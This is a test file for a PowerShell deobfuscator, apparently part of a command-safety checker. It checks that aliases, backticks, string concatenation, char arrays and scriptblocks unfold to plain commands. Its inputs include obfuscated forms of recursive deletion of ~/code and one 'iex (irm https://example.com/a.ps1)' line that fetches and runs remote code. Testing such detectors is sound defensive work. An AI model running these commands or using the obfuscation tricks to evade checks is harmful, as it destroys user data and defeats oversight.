import { describe, expect, it } from "vitest";
import { splitPowershellStatements, unfoldPowershell, UNKNOWN_POWERSHELL_CODE } from "./powershell-unfold.js";

describe("unfoldPowershell", () => {
  it("drops backticks outside strings and resolves aliases and qualified names", () => {
    expect(unfoldPowershell("R`e`m`o`v`e-I`t`e`m -Rec ~/code")).toEqual(["Remove-Item -Rec ~/code"]);
    expect(unfoldPowershell("sal x Remove-Item; x ~/code")).toEqual(["true", "Remove-Item ~/code"]);
    expect(unfoldPowershell("Set-Alias -Name x -Value Remove-Item; X ~/code")).toEqual(["true", "Remove-Item ~/code"]);
    expect(unfoldPowershell("Microsoft.PowerShell.Management\\Remove-Item ~/code")).toEqual(["Remove-Item ~/code"]);
  });

  it("computes invoked strings and runs script blocks in place", () => {
    expect(unfoldPowershell("& ('Re'+'move-Item') ~/code -Recurse")).toEqual(["Remove-Item ~/code -Recurse"]);
    expect(unfoldPowershell(". ('{1}{0}' -f 'Item','Remove-') ~/code")).toEqual(["Remove-Item ~/code"]);
    expect(unfoldPowershell("$n = 'Remove-'+'Item'; & $n ~/code")).toEqual(["true", "Remove-Item ~/code"]);
    expect(unfoldPowershell("iex (-join [char[]](114,109,32,120))")).toEqual(["rm x"]);
    expect(unfoldPowershell("'rm x' | iex")).toEqual(["rm x"]);
    expect(unfoldPowershell("& { rm x; rm y }")).toEqual(["rm x", "rm y"]);
    expect(unfoldPowershell("Invoke-Command -ScriptBlock { rm x }")).toEqual(["rm x"]);
    expect(unfoldPowershell("icm { rm x }")).toEqual(["rm x"]);
    expect(unfoldPowershell("[scriptblock]::Create('rm ' + 'x').Invoke()")).toEqual(["rm x"]);
    expect(unfoldPowershell("$ExecutionContext.InvokeCommand.InvokeScript('rm x')")).toEqual(["rm x"]);
    expect(unfoldPowershell("$b = { rm x }; $b.Invoke()")).toEqual(["true", "rm x"]);
  });

  it("marks invoked code that cannot be computed, and leaves plain programs and paths alone", () => {
    expect(unfoldPowershell("& $x ~/code")).toEqual([UNKNOWN_POWERSHELL_CODE]);
    expect(unfoldPowershell("iex $payload")).toEqual([UNKNOWN_POWERSHELL_CODE]);
    expect(unfoldPowershell("& ./build.ps1 -Release")).toEqual(["./build.ps1 -Release"]);
    expect(unfoldPowershell("./a.ps1")).toEqual(["./a.ps1"]);
    expect(unfoldPowershell('& "$env:ProgramFiles\\Git\\bin\\git.exe" status')).toEqual(['"$env:ProgramFiles\\Git\\bin\\git.exe" status']);
    expect(unfoldPowershell("iex (irm https://example.com/a.ps1)")).toEqual(["iex (irm https://example.com/a.ps1)"]);
  });

  it("splits statements outside strings, groups and blocks", () => {
    expect(splitPowershellStatements("a; & { b; c }; 'd;e'\nf")).toEqual(["a", " & { b; c }", " 'd;e'", "f"]);
  });
});
